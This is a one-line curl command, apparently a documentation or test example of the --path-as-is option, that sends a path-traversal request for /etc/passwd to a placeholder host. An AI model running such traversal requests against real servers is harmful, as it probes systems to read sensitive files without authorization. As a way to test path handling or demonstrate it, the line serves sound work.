curl --path-as-is 'https://static.example.com/../../etc/./passwd?x=/../y'
